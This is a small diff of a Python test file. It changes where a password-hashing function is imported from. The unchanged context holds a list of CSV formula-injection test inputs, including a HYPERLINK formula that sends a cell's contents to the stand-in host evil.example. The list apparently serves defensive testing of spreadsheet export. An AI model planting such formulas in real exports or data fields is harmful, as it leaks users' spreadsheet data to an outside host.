@@ -11,8 +11,8 @@ import pytest
 from conftest import PASSWORD
 
 from core.models import ROLE_DOCTOR, User, Village
-from server.auth.passwords import hash_password
 from server.extensions import db
+from server.services.passwords import hash_password
 
 NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A9)",
          "\t=1+1", "\r=1+1"]
